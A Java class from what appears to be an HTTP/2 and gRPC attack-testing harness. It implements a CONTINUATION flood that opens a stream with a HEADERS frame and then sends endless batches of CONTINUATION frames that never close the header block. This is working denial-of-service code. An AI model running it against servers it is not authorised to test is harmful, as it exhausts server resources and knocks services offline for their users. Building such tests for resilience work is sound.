package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Hpack;
import dev.sluice.attacks.wire.Http2;
import java.io.IOException;

/** Begins headers that never end, in frames of 1 KB or of nothing. */
final class ContinuationFlood extends Attack {
  private static final int AT_ONCE = 100;

  private final byte[] frames;

  ContinuationFlood(String name, int bytes) {
    super(name, Family.FRAMES, Access.NO_KEY, Bounds.of(200, 64, 6));
    byte[] field = bytes == 0 ? new byte[0] : Hpack.encode("a", "x".repeat(bytes));
    frames = new Frame(Frame.CONTINUATION, 0, 1, field).times(AT_ONCE);
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(4, () -> flood(attempt));
  }

  private void flood(Attempt attempt) throws IOException {
    try (Http2 connection = attempt.grpc()) {
      byte[] first = Hpack.encode(":method", "POST", ":path", "/a", ":scheme", "http");
      connection.send(new Frame(Frame.HEADERS, 0, connection.newStream(), first));
      while (attempt.isRunning()) {
        connection.send(frames);
      }
    }
  }
}
